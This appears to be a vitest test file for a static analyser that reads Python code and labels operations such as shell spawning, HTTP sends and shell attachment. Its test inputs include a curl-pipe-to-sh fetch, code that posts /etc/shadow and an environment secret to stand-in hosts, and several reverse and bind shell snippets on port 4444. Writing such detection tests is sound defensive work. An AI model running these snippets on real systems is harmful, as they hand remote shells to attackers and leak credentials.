import { describe, expect, test } from "vitest";
import { handedOn, operationsOf, read } from "./read.ts";

const IMPORTS = "import os, subprocess, sys, asyncio, pty, pexpect\n";

describe("a line that a shell runs", () => {
  test.each([
    ["os.system('id')", "spawn shell id"],
    ["os.popen('id').read()", "spawn shell id"],
    ["subprocess.run('id', shell=True)", "spawn shell id"],
    ["subprocess.call('id')", "spawn shell id"],
    ["subprocess.Popen(args='id', shell=1)", "spawn shell id"],
    ["subprocess.check_output(['id'], shell=True)", "spawn shell id"],
    ["subprocess.getoutput('id')", "spawn shell id"],
    ["subprocess.getstatusoutput('id')", "spawn shell id"],
    ["asyncio.create_subprocess_shell('id')", "spawn shell id"],
    ["pexpect.spawn('id')", "spawn shell id"],
  ])("%s", (code, expected) => {
    expect(operationsOf(IMPORTS + code)).toEqual([expected]);
    expect(handedOn(IMPORTS + code, "shell")).toEqual(["id"]);
  });

  test("stands where it is written", () => {
    const text = 'import os\nif True:\n    os.system("curl -s https://x.example | sh")\n';
    const { operations, embedded } = read(text);
    expect(operations[0]).toMatchObject({ at: { line: 3, column: 5 }, context: { trigger: "load" } });
    expect(embedded).toMatchObject([
      { text: "curl -s https://x.example | sh", offset: text.indexOf("curl"), layer: { kind: "string", of: "python" } },
    ]);
  });

  test("unknown parts stay holes", () => {
    expect(handedOn("import os\ndef f(x):\n  os.system(f'ls {x} | sort')", "shell")).toEqual(["ls … | sort"]);
  });
});

describe("a program with arguments", () => {
  test.each([
    ["subprocess.run(['ls', '-l'])", ["spawn ls [-l]"]],
    ["subprocess.run(('ls', path))", ["spawn ls [~…]"]],
    ["subprocess.run(['ls'] + ['-l'])", ["spawn ls [-l]"]],
    ["os.execvp('ls', ['ls', '-l'])", ["spawn ls [-l]"]],
    ["os.execl('/bin/ls', 'ls', '-l')", ["spawn /bin/ls [-l]"]],
    ["os.spawnlp(os.P_WAIT, 'ls', 'ls', '-l')", ["spawn ls [-l]"]],
    ["asyncio.create_subprocess_exec('ls', '-l')", ["spawn ls [-l]"]],
    ["pty.spawn('/bin/zsh')", ["spawn shell /bin/zsh"]],
    ["subprocess.run(['bash', '-c', 'id'])", ["spawn bash [-c, id]", "evaluate shell id"]],
    ["subprocess.run(['/bin/sh', '-lc', 'id'])", ["spawn /bin/sh [-lc, id]", "evaluate shell id"]],
    ["subprocess.run(['sudo', 'bash', '-c', 'id'])", ["spawn sudo [bash, -c, id]", "evaluate shell id"]],
    ["subprocess.run([sys.executable, '-c', 'x()'])", ["spawn python3 [-c, x()]", "evaluate python x()"]],
    ["subprocess.run([sys.executable, '-m', 'x', '-c', 'y.json'])", ["spawn python3 [-m, x, -c, y.json]"]],
    ["subprocess.run([sys.executable, 'x.py', '-c', 'y.json'])", ["spawn python3 [x.py, -c, y.json]"]],
    ["subprocess.run(['bash', '-m', '-c', 'id'])", ["spawn bash [-m, -c, id]", "evaluate shell id"]],
    ["subprocess.run(['node', '-e', 'x()'])", ["spawn node [-e, x()]", "evaluate javascript x()"]],
    ["subprocess.run(['osascript', '-e', 'x'])", ["spawn osascript [-e, x]", "evaluate applescript x"]],
    ["subprocess.run(['bash'], input='id')", ["spawn bash", "evaluate shell id"]],
    ["subprocess.run(['bash', '-s', 'x'], input='id')", ["spawn bash [-s, x]", "evaluate shell id"]],
    ["subprocess.run([sys.executable, '-'], input='id()')", ["spawn python3 [-]", "evaluate python id()"]],
    [
      "subprocess.run(['python3', '-W', 'ignore'], input='id()')",
      ["spawn python3 [-W, ignore]", "evaluate python id()"],
    ],
    ["subprocess.run(['python3', 'merge.py', '--all'], input='id')", ["spawn python3 [merge.py, --all]"]],
    ["subprocess.run([sys.executable, '-u', 'merge.py'], input='id')", ["spawn python3 [-u, merge.py]"]],
    ["subprocess.Popen(['bash'], stdin=subprocess.PIPE).communicate('id')", ["spawn bash", "evaluate shell id"]],
  ])("%s", (code, expected) => {
    expect(operationsOf(IMPORTS + code)).toEqual(expected);
  });

  test.each([
    ["subprocess.run(['curl', '-o', 'a b', url])", "curl -o 'a b' …"],
    ["subprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])", "python3 -m pip install x"],
    ["subprocess.run(['echo', '$(id)', \"it's\"])", undefined],
    ["subprocess.run(['rm', '-rf', \"it's $(id)\"])", String.raw`rm -rf 'it'\''s $(id)'`],
  ])("%s means to the shell reader", (code, expected) => {
    expect(handedOn(IMPORTS + code, "shell")).toEqual(expected === undefined ? [] : [expected]);
  });

  test.each([
    ["import pip\npip.main(['install', 'x'])", "pip install x"],
    ["from pip._internal.cli.main import main\nmain(['install', x])", "pip install …"],
    ["import sh\nsh.curl('-O', 'https://c.example')", "curl -O https://c.example"],
  ])("%s: a program under the name of a function", (code, line) => {
    expect(handedOn(code, "shell")).toEqual([line]);
  });

  test("the output has the command as its origin, and what the command was made of", () => {
    const code =
      "import subprocess, requests\nrequests.post('https://c.example', data=subprocess.check_output(['cat', '/etc/shadow']))";
    expect(operationsOf(code)).toContain("send http https://c.example [~… <`cat /etc/shadow`>]");
  });

  test("a secret on curl's command line leaves", () => {
    const code = "import os\nos.system('curl -d k=' + os.environ['A_KEY'] + ' https://c.example/x')";
    expect(operationsOf(code)).toContain("send http https://c.example/x [~curl -d k=… https://c.example/x <$A_KEY>]");
  });

  test("a script that was written before runs with what was written", () => {
    const code = "import subprocess\nopen('/tmp/x.sh', 'w').write('id')\nsubprocess.run(['sh', '/tmp/x.sh'])";
    expect(operationsOf(code)).toContain("evaluate shell id </tmp/x.sh>");
  });

  test("the package's own scripts are run", () => {
    const { facts } = read("import subprocess\nsubprocess.run(['python3', 'scripts/b.py'])");
    expect(facts.filter((fact) => fact.kind === "reference")).toMatchObject([{ how: "run", target: "scripts/b.py" }]);
  });
});

describe("a shell for somebody else", () => {
  const socket = "import socket, subprocess, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\n";
  test.each([
    ["os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])"],
    ["[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn('/bin/bash')"],
    ["subprocess.Popen(['/bin/bash'], stdin=s, stdout=s, stderr=s)"],
    ["subprocess.Popen('sh', shell=True, stdin=s.fileno(), stdout=s.fileno())"],
    ["while True:\n  out = subprocess.getoutput(s.recv(1024).decode())\n  s.send(out.encode())"],
  ])("%s", (code) => {
    expect(operationsOf(socket + code)).toContain("attach-shell reverse 192.0.2.1:4444");
  });

  test("on a port of this machine", () => {
    const code = `import socket, subprocess
s = socket.socket()
s.bind(("", 4444))
s.listen(1)
c, a = s.accept()
subprocess.Popen(["/bin/sh"], stdin=c, stdout=c)`;
    expect(operationsOf(code)).toEqual(expect.arrayContaining(["listen 0.0.0.0 4444", "attach-shell bind :4444"]));
  });

  test("near miss: a program that is no shell writes to a socket", () => {
    expect(operationsOf(`${socket}subprocess.Popen(['date'], stdout=s)`).join("\n")).not.toContain("attach-shell");
  });
});

describe("a file that was written before", () => {
  const WRITTEN = `${IMPORTS}open('/tmp/x.md', 'w').write('id')\n`;

  test.each([
    ["subprocess.run(['python3', 'convert.py', '/tmp/x.md'])", false],
    ["subprocess.run(['python3', '-u', 'tools/convert.py', '--input', '/tmp/x.md'])", false],
    ["subprocess.run(['sudo', 'python3', 'convert.py', '/tmp/x.md'])", false],
    ["subprocess.run(['bash', '/tmp/x.md'])", true],
    ["subprocess.run(['bash', '-x', '/tmp/x.md', 'convert.py'])", true],
    ["subprocess.run(['node', '-r', './hook.js', '/tmp/x.md'])", true],
    ["subprocess.run(['sudo', 'bash', '/tmp/x.md'])", true],
    ["subprocess.run(['chmod', '+x', 'convert.py', '/tmp/x.md'])", true],
  ])("%s runs it: %s", (code, isRun) => {
    expect(operationsOf(WRITTEN + code).some((operation) => operation.startsWith("evaluate"))).toBe(isRun);
  });
});
